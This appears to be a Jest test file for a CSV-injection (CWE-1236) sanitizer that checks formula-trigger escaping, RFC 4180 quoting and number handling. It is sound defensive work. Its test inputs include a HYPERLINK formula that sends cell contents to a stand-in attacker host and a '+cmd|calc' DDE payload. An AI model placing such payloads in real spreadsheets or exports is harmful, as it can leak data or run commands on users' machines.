import { CSV_FORMULA_TRIGGERS, csvField, csvLine, csvQuote, csvSafeText } from './index';

describe('CSV cells (CSV injection, CWE-1236)', () => {
  it('puts a quote before a text that begins with = + - @ tab or CR, and nothing else', () => {
    expect(CSV_FORMULA_TRIGGERS).toEqual(['=', '+', '-', '@', '\t', '\r']);
    for (const c of CSV_FORMULA_TRIGGERS) expect(csvSafeText(`${c}x`)).toBe(`'${c}x`);
    for (const s of ['', 'x', ' =x', "'=x", 'a=b', '1', '5-3', '\n=x', '"=x"', '＝x']) expect(csvSafeText(s)).toBe(s);
  });

  it('the issue example: quoted as RFC 4180 requires, after the quote', () => {
    expect(csvLine(['=HYPERLINK("http://evil.example/?"&A1,"click")', '+cmd|calc'])).toBe(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",'+cmd|calc\r\n`);
    expect(csvField('\r=1')).toBe(`"'\r=1"`);
    expect(csvField('\t=1')).toBe(`'\t=1`);
    expect(csvQuote('a,b')).toBe('"a,b"');
  });

  it('leaves a typed finite number as it is; a string that looks like a number, or -Infinity, is text', () => {
    expect(csvLine([-5, -0.25, 0, 3, -1e-7, '-5', '+5', -Infinity, NaN])).toBe(`-5,-0.25,0,3,-1e-7,'-5,'+5,'-Infinity,NaN\r\n`);
    expect(csvSafeText('-5', true)).toBe('-5');
    expect(csvSafeText('-x', true)).toBe("'-x");
    expect(csvSafeText('=5', true)).toBe("'=5");
  });
});
